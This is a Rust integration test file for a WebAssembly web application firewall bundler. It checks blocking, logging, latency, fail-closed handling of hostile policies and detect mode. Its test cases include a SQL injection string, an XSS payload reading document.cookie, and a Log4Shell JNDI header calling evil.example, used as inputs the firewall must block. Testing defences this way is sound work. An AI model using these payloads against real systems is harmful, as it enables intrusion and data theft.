//! The wasi:http bundle: `edgewaf-tools bundle` composes policy components into one
//! component, which then serves in front of the echo origin under two runtimes —
//! `wasmtime serve` (wasmtime-cli 48, installed by `make test`) and the edgewaf
//! host's `serve-component` — with the same results.

use crate::support::*;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

/// The `wasmtime` CLI: `EDGEWAF_WASMTIME`, else on PATH, else ~/.cargo/bin.
fn wasmtime_cli() -> PathBuf {
    find_wasmtime_cli().unwrap_or_else(|| {
        panic!(
            "wasmtime-cli 48 not found: `make test` installs it (cargo install wasmtime-cli --version 48.0.8 --locked)"
        )
    })
}

/// [`wasmtime_cli`], or `None` when it is not installed.
pub(crate) fn find_wasmtime_cli() -> Option<PathBuf> {
    let candidates = std::env::var_os("EDGEWAF_WASMTIME")
        .map(PathBuf::from)
        .into_iter()
        .chain(std::iter::once(PathBuf::from("wasmtime")))
        .chain(std::env::var_os("HOME").map(|h| Path::new(&h).join(".cargo/bin/wasmtime")));
    for c in candidates {
        if let Ok(out) = Command::new(&c).arg("--version").output()
            && out.status.success()
        {
            let v = String::from_utf8_lossy(&out.stdout);
            assert!(
                v.starts_with("wasmtime 48."),
                "{} is {v}; the bundle tests need wasmtime-cli 48 (make test installs it)",
                c.display()
            );
            return Some(c);
        }
    }
    None
}

/// Runs `edgewaf-tools bundle`; returns its stdout.
fn bundle(out: &Path, policies: &[&str], config: &Path, platform: &str) -> String {
    bundle_with(out, policies, config, platform, &[])
}

/// [`bundle`] with extra arguments (`--no-snapshot`).
pub(crate) fn bundle_with(
    out: &Path,
    policies: &[&str],
    config: &Path,
    platform: &str,
    extra: &[&str],
) -> String {
    let mut cmd = edgewaf_tools();
    cmd.arg("bundle").args(extra);
    for p in policies {
        cmd.arg("--policy").arg(module(p));
    }
    cmd.arg("--config")
        .arg(config)
        .arg("-o")
        .arg(out)
        .args(["--platform", platform])
        .env("EDGEWAF_BUNDLE_PARTS", modules_dir());
    let o = cmd.output().unwrap();
    assert!(
        o.status.success(),
        "edgewaf-tools bundle failed: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8_lossy(&o.stdout).into_owned()
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Runtime {
    WasmtimeServe,
    EdgewafHost,
}

/// A runtime serving a bundle; its stderr goes to a file.
pub(crate) struct Served {
    pub(crate) addr: String,
    log: PathBuf,
    _proc: Proc,
}

impl Served {
    pub(crate) fn log(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }
}

pub(crate) fn serve(
    rt: Runtime,
    bundle: &Path,
    origin: &str,
    dirs: &[(PathBuf, &str)],
    dir: &Path,
) -> Served {
    let addr = format!("127.0.0.1:{}", free_port());
    let log = dir.join(format!("{rt:?}-{}.log", free_port()));
    let env = format!("EDGEWAF_ORIGIN=http://{origin}");
    let mut cmd = match rt {
        Runtime::WasmtimeServe => {
            let mut c = Command::new(wasmtime_cli());
            // -Scli: the policies (Rust std) import wasi:cli beyond the proxy world.
            c.args(["serve", "-Scli", "--addr", &addr, "--env", &env]);
            c
        }
        Runtime::EdgewafHost => {
            let mut c = edgewaf_tools();
            c.args(["serve-component", "--listen", &addr, "--env", &env]);
            c
        }
    };
    for (host, guest) in dirs {
        cmd.arg("--dir").arg(format!("{}::{guest}", host.display()));
    }
    let mut child = cmd
        .arg(bundle)
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .expect("start the runtime");
    wait_for_listen(&addr, &format!("{rt:?}"), &mut child, Some(&log));
    Served {
        addr,
        log,
        _proc: Proc {
            child,
            name: format!("{rt:?}"),
        },
    }
}

/// `edgewaf-tools serve-component` on a free port with no settings, output discarded.
fn serve_component(bundle: &Path, extra: &[&str]) -> (String, Proc) {
    let addr = format!("127.0.0.1:{}", free_port());
    let mut child = edgewaf_tools()
        .args(["serve-component", "--listen", &addr])
        .args(extra)
        .arg(bundle)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_for_port(&addr, "serve-component", &mut child);
    let proc = Proc {
        child,
        name: "serve-component".into(),
    };
    (addr, proc)
}

fn get(host: &str, target: &str, extra: &str) -> String {
    format!(
        "GET {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: edgewaf-tests/1.0\r\nAccept: */*\r\n{extra}Connection: close\r\n\r\n"
    )
}

/// The requests both bundles get, with the status each must get.
fn cases(host: &str) -> Vec<(&'static str, String, u16)> {
    vec![
        (
            "benign GET",
            get(host, "/products?page=2&sort=price", ""),
            200,
        ),
        (
            "benign JSON POST",
            post(
                host,
                "/api/orders",
                "application/json",
                r#"{"item":"book","qty":2}"#,
            ),
            200,
        ),
        (
            "SQL injection",
            get(host, "/item?id=1%27%20OR%20%271%27%3D%271", ""),
            403,
        ),
        (
            "XSS in a form",
            post(
                host,
                "/comment",
                "application/x-www-form-urlencoded",
                "comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
            ),
            403,
        ),
        (
            "Log4Shell",
            get(
                host,
                "/",
                "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n",
            ),
            403,
        ),
    ]
}

/// Sends every case; checks the statuses, that allowed requests reached the
/// origin unchanged and that denials carry a request id and no rule ids.
fn run_cases(served: &Served, host: &str, rt: Runtime) -> Vec<u16> {
    let mut statuses = Vec::new();
    for (what, raw, want) in cases(host) {
        let r = send(&served.addr, &raw);
        assert_eq!(
            r.status,
            want,
            "{rt:?} {what}: {} {}\n{}",
            r.status,
            r.body,
            served.log()
        );
        let id = r.request_id();
        if r.status == 200 {
            // The echo origin answers with the request it got.
            let echoed = r.json();
            let target = raw.split(' ').nth(1).unwrap();
            assert_eq!(echoed["target"], target, "{rt:?} {what}");
            let sent_id = echoed["headers"]
                .as_array()
                .unwrap()
                .iter()
                .find(|h| h[0] == "x-request-id")
                .map(|h| h[1].as_str().unwrap().to_string());
            assert_eq!(
                sent_id.as_deref(),
                Some(id.as_str()),
                "{rt:?} {what}: x-request-id upstream"
            );
            if raw.starts_with("POST") {
                let body = raw.split("\r\n\r\n").nth(1).unwrap();
                assert_eq!(echoed["body"], body, "{rt:?} {what}: body forwarded");
            }
        } else {
            let j = r.json();
            assert_eq!(j["error"], "request blocked", "{rt:?} {what}");
            assert_eq!(j["request_id"], id.as_str());
            // Nothing but the error and the request id: no rule ids, no reasons.
            let keys: Vec<&String> = j.as_object().unwrap().keys().collect();
            assert_eq!(keys, ["error", "request_id"], "{}", r.body);
        }
        statuses.push(r.status);
    }
    statuses
}

/// ip-filter + signatures (the demo tenant "shop") bundled once; the same file
/// under both runtimes.
#[test]
fn signatures_bundle_runs_the_same_under_wasmtime_serve_and_the_edgewaf_host() {
    let dir = tempfile::tempdir().unwrap();
    let echo = Echo::start();
    let out = dir.path().join("shop.wasm");
    let report = bundle(
        &out,
        &["ip-filter", "signatures"],
        &repo().join("policies/shop.toml"),
        "wasi",
    );
    assert!(report.contains("ip-filter -> signatures"), "{report}");
    assert!(
        report.contains("wasi:http/incoming-handler@0.2."),
        "{report}"
    );

    let mut results = Vec::new();
    for rt in [Runtime::WasmtimeServe, Runtime::EdgewafHost] {
        let served = serve(rt, &out, &echo.addr, &[], dir.path());
        let statuses = run_cases(&served, "shop.localhost", rt);
        // The adapter's decision line names the signature that matched.
        let log = served.log();
        let sqli = log
            .lines()
            .find(|l| l.contains("\"action\":\"deny\"") && l.contains("sig-sqli"))
            .unwrap_or_else(|| panic!("{rt:?}: no deny line for the SQLi request:\n{log}"));
        // wasmtime serve prefixes guest output with `stderr [n] :: `.
        let json = &sqli[sqli.find('{').unwrap()..];
        let line: serde_json::Value = serde_json::from_str(json).unwrap();
        assert_eq!(line["tenant"], "shop");
        assert_eq!(line["policy"], "signatures");
        println!("{rt:?}: {statuses:?}");
        results.push(statuses);
    }
    assert_eq!(
        results[0], results[1],
        "one artifact, two runtimes, same results"
    );
}

/// The CRS tenant file of the bundle tests: rule files mounted at /crs.
fn crs_tenant(dir: &Path) -> PathBuf {
    let tenant = dir.join("api.toml");
    std::fs::write(
        &tenant,
        format!(
            "hosts = [\"api.localhost\"]\nupstream = \"http://127.0.0.1:9\"\n\
             [[policy]]\nmodule = \"crs\"\nmounts = {{ \"/crs\" = {:?} }}\n\
             [policy.config]\nrules = [\"/crs/crs-setup.conf.example\", \"/crs/rules/*.conf\"]\n\
             paranoia_level = 1\n",
            crs_dir().display().to_string()
        ),
    )
    .unwrap();
    tenant
}

/// The CRS policy bundled the same way blocks the same attacks under both
/// runtimes. The bundle is a snapshot (the default): the rules were read and
/// parsed at bundle time, so the runtimes mount nothing.
#[test]
fn crs_bundle_blocks_the_same_attacks_under_both_runtimes() {
    let dir = tempfile::tempdir().unwrap();
    let echo = Echo::start();
    let tenant = crs_tenant(dir.path());
    let out = dir.path().join("api.wasm");
    let report = bundle(&out, &["crs"], &tenant, "wasi");
    assert!(report.contains("snapshotted after init (crs "), "{report}");
    assert!(!report.contains("mount needed"), "{report}");

    let mut results = Vec::new();
    for rt in [Runtime::WasmtimeServe, Runtime::EdgewafHost] {
        let served = serve(rt, &out, &echo.addr, &[], dir.path());
        let statuses = run_cases(&served, "api.localhost", rt);
        let log = served.log();
        assert!(
            log.lines()
                .any(|l| l.contains("\"action\":\"deny\"") && l.contains("\"942")),
            "{rt:?}: no CRS SQLi rule (942xxx) in the decision lines:\n{log}"
        );
        println!("{rt:?}: {statuses:?}");
        results.push(statuses);
    }
    assert_eq!(results[0], results[1]);
}

/// p50 of `n` sequential requests, ms.
fn p50_ms(addr: &str, raw: &str, want: u16, n: usize) -> f64 {
    let mut times: Vec<f64> = (0..n)
        .map(|_| {
            let t = std::time::Instant::now();
            let r = send(addr, raw);
            assert_eq!(r.status, want, "{}", r.body);
            t.elapsed().as_secs_f64() * 1000.0
        })
        .collect();
    times.sort_by(f64::total_cmp);
    times[n / 2]
}

/// A bundle to compare: name, policies, tenant file, Host, mounts when plain.
type BundleCase<'a> = (
    &'a str,
    &'a [&'a str],
    &'a Path,
    &'a str,
    Vec<(PathBuf, &'a str)>,
);

/// Snapshotted bundles (the default) answer exactly like bundles of the plain
/// components under `wasmtime serve`, and skip the policies' `init` on every
/// request. Prints the p50 latency of a benign GET for each (issue 12 goals:
/// CRS <= 5 ms, shop <= 2 ms; before snapshots 240 ms and 8 ms). Run with
/// `--nocapture` to see the figures.
#[test]
fn snapshotted_bundles_answer_like_plain_ones_and_fast() {
    let dir = tempfile::tempdir().unwrap();
    let echo = Echo::start();
    let crs = crs_dir();
    let api = crs_tenant(dir.path());
    let shop = repo().join("policies/shop.toml");
    let bundles: [BundleCase; 2] = [
        (
            "shop",
            &["ip-filter", "signatures"],
            &shop,
            "shop.localhost",
            vec![],
        ),
        (
            "crs",
            &["crs"],
            &api,
            "api.localhost",
            vec![(crs.clone(), "/crs")],
        ),
    ];
    for (name, policies, tenant, host, mounts) in bundles {
        let mut p50 = Vec::new();
        let mut statuses = Vec::new();
        for snapshot in [true, false] {
            let out = dir.path().join(format!("{name}-{snapshot}.wasm"));
            let extra: &[&str] = if snapshot { &[] } else { &["--no-snapshot"] };
            bundle_with(&out, policies, tenant, "wasi", extra);
            // The plain bundle reads the rules at run time; the snapshot does not.
            let dirs = if snapshot { vec![] } else { mounts.clone() };
            let served = serve(Runtime::WasmtimeServe, &out, &echo.addr, &dirs, dir.path());
            statuses.push(run_cases(&served, host, Runtime::WasmtimeServe));
            let benign = get(host, "/products?page=2&sort=price", "");
            let sqli = get(host, "/item?id=1%27%20OR%20%271%27%3D%271", "");
            assert_eq!(send(&served.addr, &sqli).status, 403);
            send(&served.addr, &benign); // warm-up
            let n = if snapshot { 60 } else { 15 };
            p50.push(p50_ms(&served.addr, &benign, 200, n));
        }
        println!(
            "{name} bundle under wasmtime serve, benign GET p50: snapshot {:.2} ms, plain {:.2} ms",
            p50[0], p50[1]
        );
        assert_eq!(statuses[0], statuses[1], "{name}: same verdicts");
        // Loose bound (shared CI machines): init on every request would be far above.
        assert!(
            p50[0] < p50[1],
            "{name}: the snapshot is not faster: {p50:?}"
        );
    }
}

fn crs_dir() -> PathBuf {
    let p = std::env::var_os("EDGEWAF_CRS_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| repo().join("crs/v4.28.0"));
    assert!(
        p.join("rules").is_dir(),
        "CRS release not found at {} (set EDGEWAF_CRS_DIR)",
        p.display()
    );
    p.canonicalize().unwrap()
}

/// Settings reach the bundle from the runtime: without EDGEWAF_ORIGIN the
/// tenant's upstream is used (here nothing listens there: 502, not a hang).
#[test]
fn without_an_origin_setting_the_tenant_upstream_is_used() {
    let dir = tempfile::tempdir().unwrap();
    let dead = format!("127.0.0.1:{}", free_port());
    let tenant = dir.path().join("t.toml");
    std::fs::write(
        &tenant,
        format!(
            "hosts = [\"t\"]\nupstream = \"http://{dead}\"\n[[policy]]\nmodule = \"signatures\"\n"
        ),
    )
    .unwrap();
    let out = dir.path().join("t.wasm");
    bundle(&out, &["signatures"], &tenant, "wasi");
    let (addr, _p) = serve_component(&out, &[]);
    let r = send(&addr, &get("t", "/", ""));
    assert_eq!(r.status, 502, "{}", r.body);
    assert_eq!(r.json()["error"], "upstream unavailable");
    // A denial needs no origin at all.
    let r = send(
        &addr,
        &get("t", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
    );
    assert_eq!(r.status, 403);
}

/// Bad inputs to `edgewaf-tools bundle` get a clear error and write nothing.
#[test]
fn bundle_refuses_bad_inputs_clearly() {
    let dir = tempfile::tempdir().unwrap();
    let tenant = dir.path().join("t.toml");
    std::fs::write(
        &tenant,
        "hosts = [\"t\"]\nupstream = \"http://127.0.0.1:9\"\n",
    )
    .unwrap();
    let junk = dir.path().join("junk.wasm");
    std::fs::write(&junk, b"\0asm not really").unwrap();
    let out = dir.path().join("out.wasm");
    let run = |policy: &Path| {
        let o = edgewaf_tools()
            .arg("bundle")
            .arg("--policy")
            .arg(policy)
            .arg("--config")
            .arg(&tenant)
            .arg("-o")
            .arg(&out)
            .env("EDGEWAF_BUNDLE_PARTS", modules_dir())
            .output()
            .unwrap();
        assert!(!o.status.success());
        String::from_utf8_lossy(&o.stderr).into_owned()
    };
    let e = run(&junk);
    assert!(e.contains("not a WebAssembly component"), "{e}");
    // A component that is not a policy.
    let e = run(&module("edge-platform"));
    assert!(e.contains("does not export edgewaf:policy/filter"), "{e}");
    let e = run(&dir.path().join("missing.wasm"));
    assert!(e.contains("reading") && e.contains("missing.wasm"), "{e}");
    assert!(!out.exists());
}

/// The Spin flavour composes, and imports nothing but wasi 0.2 interfaces and
/// Spin's key-value and variables (Spin 4 provides exactly these); nothing of
/// edgewaf's is left for the runtime to provide.
#[test]
fn spin_bundle_imports_only_what_spin_provides() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("spin.wasm");
    bundle(
        &out,
        &["ip-filter", "signatures"],
        &repo().join("policies/shop.toml"),
        "spin",
    );
    let engine = wasmtime::Engine::default();
    let component = wasmtime::component::Component::from_file(&engine, &out).unwrap();
    let ty = component.component_type();
    let imports: Vec<String> = ty.imports(&engine).map(|(n, _)| n.to_string()).collect();
    assert!(
        imports.iter().any(|i| i == "fermyon:spin/key-value@2.0.0"),
        "{imports:?}"
    );
    assert!(
        imports.iter().any(|i| i == "fermyon:spin/variables@2.0.0"),
        "{imports:?}"
    );
    for i in &imports {
        assert!(
            i.starts_with("wasi:") && i.contains("@0.2.") || i.starts_with("fermyon:spin/"),
            "unexpected import {i}"
        );
    }
    let exports: Vec<String> = ty.exports(&engine).map(|(n, _)| n.to_string()).collect();
    assert_eq!(exports, ["wasi:http/incoming-handler@0.2.4"]);
}

/// Hostile policies inside a bundle: a trap or an init failure fails closed
/// (5xx, never forwarded) under both runtimes, and the next request is served;
/// under the edgewaf host an endless loop is cut at the deadline.
#[test]
fn hostile_policies_in_a_bundle_fail_closed() {
    let dir = tempfile::tempdir().unwrap();
    let echo = Echo::start();
    let write = |name: &str, config: &str| {
        let tenant = dir.path().join(format!("{name}.toml"));
        std::fs::write(
            &tenant,
            format!(
                "hosts = [\"h\"]\nupstream = \"http://127.0.0.1:9\"\n[[policy]]\nmodule = \"hostile\"\n\
                 [policy.config]\n{config}\n"
            ),
        )
        .unwrap();
        tenant
    };
    let make = |name: &str, config: &str, extra: &[&str]| {
        let out = dir.path().join(format!("{name}.wasm"));
        bundle_with(&out, &["hostile"], &write(name, config), "wasi", extra);
        out
    };
    let trap = make("trap", "on_request = \"trap\"", &[]);
    // A snapshot runs init at bundle time: the failure stops the bundle there,
    // with the guest's message.
    let o = edgewaf_tools()
        .args(["bundle", "--policy"])
        .arg(module("hostile"))
        .arg("--config")
        .arg(write("initfail", "init = \"fail\""))
        .arg("-o")
        .arg(dir.path().join("never.wasm"))
        .env("EDGEWAF_BUNDLE_PARTS", modules_dir())
        .output()
        .unwrap();
    let e = String::from_utf8_lossy(&o.stderr);
    assert!(
        !o.status.success() && e.contains("init refused as configured"),
        "{e}"
    );
    // Without a snapshot the failure happens at run time, and fails closed.
    let init_fails = make("initfail", "init = \"fail\"", &["--no-snapshot"]);
    for rt in [Runtime::WasmtimeServe, Runtime::EdgewafHost] {
        for (what, file, want) in [("trap", &trap, 500), ("init failure", &init_fails, 503)] {
            let served = serve(rt, file, &echo.addr, &[], dir.path());
            for _ in 0..2 {
                let r = send(&served.addr, &get("h", "/", ""));
                assert_eq!(
                    r.status,
                    want,
                    "{rt:?} {what}: {}\n{}",
                    r.body,
                    served.log()
                );
                assert!(
                    !r.body.contains("\"target\""),
                    "{rt:?} {what}: reached the origin"
                );
            }
        }
    }
    // The edgewaf host stops a guest that never returns at --deadline-ms.
    let spin = make("loop", "on_request = \"loop\"", &[]);
    let (addr, _p) = serve_component(&spin, &["--deadline-ms", "500"]);
    // (`send` fails on a response that takes over 15 s.)
    let r = send(&addr, &get("h", "/", ""));
    assert_eq!(r.status, 500, "{}", r.body);
}

/// A tenant in detect mode (demo tenant "staging"): inside a bundle the attack
/// reaches the origin and the decision line names the policy that would have
/// denied it.
#[test]
fn detect_mode_bundle_forwards_and_logs() {
    let dir = tempfile::tempdir().unwrap();
    let echo = Echo::start();
    let out = dir.path().join("staging.wasm");
    bundle(
        &out,
        &["signatures"],
        &repo().join("policies/staging.toml"),
        "wasi",
    );
    let served = serve(Runtime::EdgewafHost, &out, &echo.addr, &[], dir.path());
    let r = send(
        &served.addr,
        &get(
            "staging.localhost",
            "/item?id=1%27%20OR%20%271%27%3D%271",
            "",
        ),
    );
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(r.json()["target"], "/item?id=1%27%20OR%20%271%27%3D%271");
    let id = r.request_id();
    let log = served.log();
    let line = log
        .lines()
        .find(|l| l.contains(&id) && l.contains("\"kind\":\"decision\""))
        .unwrap_or_else(|| panic!("no decision line for {id}:\n{log}"));
    let line: serde_json::Value = serde_json::from_str(&line[line.find('{').unwrap()..]).unwrap();
    assert_eq!(line["action"], "allow");
    assert_eq!(line["would_deny"], "signatures");
    assert!(line["rule_ids"].to_string().contains("sig-sqli"), "{line}");
}
